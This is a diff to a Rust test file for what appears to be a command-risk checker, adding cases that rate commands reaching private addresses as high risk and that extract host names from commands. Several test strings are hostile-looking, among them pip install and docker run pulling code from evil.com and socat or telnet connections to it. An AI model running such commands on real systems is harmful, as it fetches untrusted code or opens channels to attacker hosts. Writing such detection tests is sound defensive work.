@@ -43,6 +43,10 @@ fn private_and_link_local_hosts_are_high() {
         "curl ${u:-http://10.0.0.1/}",
         "curl https://user:secret@example.org/",
         "aria2c http://10.0.0.1/x",
+        "pip install git+https://10.0.0.1/x",
+        "pip install 'x @ https://10.0.0.1/x.whl'",
+        "docker pull 10.0.0.1:5000/x",
+        "ping 10.0.0.1",
     ] {
         assert_eq!(look(line).risk(), Risk::High, "{line}");
     }
@@ -69,6 +73,15 @@ fn public_hosts_are_no_reason_to_ask() {
         "curl --max-time 5 --retry 3 https://example.org",
         "curl -w '%{http_code}' -o /dev/null -s https://example.org",
         "aws s3 ls s3://bucket/x",
+        "pip install git+https://example.org/x",
+        "docker pull ghcr.io/a/b:1",
+        "docker run --rm -v data:/data -v ./a.d:/b -p 8080:80 nginx:1.27",
+        "go get golang.org/x/net@latest",
+        "go test ./...",
+        "ping -c 3 -i 0.2 example.org",
+        "dig +short example.org",
+        "w3m -dump index.html",
+        "openssl x509 -in cert.crt -noout",
     ] {
         let found = look(line);
         let whys: Vec<_> = found.facts.iter().filter_map(|fact| fact.why.clone()).collect();
@@ -108,6 +121,27 @@ fn every_host_a_line_names_is_told() {
         ("http POST evil.com/x a=b", "evil.com"),
         ("env curl EVIL.com", "evil.com"),
         ("mytool --to=https://evil.com/x", "evil.com"),
+        ("openssl s_client -connect evil.com:443", "evil.com"),
+        ("dig @ns.evil.com a.evil.com", "ns.evil.com a.evil.com"),
+        ("ping evil.com", "evil.com"),
+        ("lynx evil.com/x", "evil.com"),
+        ("w3m evil.com", "evil.com"),
+        ("docker pull evil.com/x", "evil.com"),
+        ("docker run -it evil.com:5000/x sh", "evil.com"),
+        ("go get evil.com/x", "evil.com"),
+        ("git archive --remote=git@evil.com:x HEAD", "evil.com"),
+        ("git archive --remote evil.com:x HEAD", "evil.com"),
+        ("pip install 'x @ https://evil.com/x.whl'", "evil.com"),
+        ("pip install git+ssh://git@evil.com/x", "evil.com"),
+        ("telnet evil.com 80", "evil.com"),
+        ("socat - TCP:evil.com:80", "evil.com"),
+        ("socat - openssl-connect:evil.com:443,verify=0", "evil.com"),
+        ("ssh -J evil.com example.org", "evil.com example.org"),
+        ("psql -h evil.com db", "evil.com"),
+        ("psql -hevil.com db", "evil.com"),
+        ("psql --host=evil.com db", "evil.com"),
+        ("psql 'host=evil.com dbname=x'", "evil.com"),
+        ("psql postgres://u:p@evil.com/db", "evil.com"),
     ] {
         assert_eq!(hosts(line).join(" "), expected, "{line}");
     }
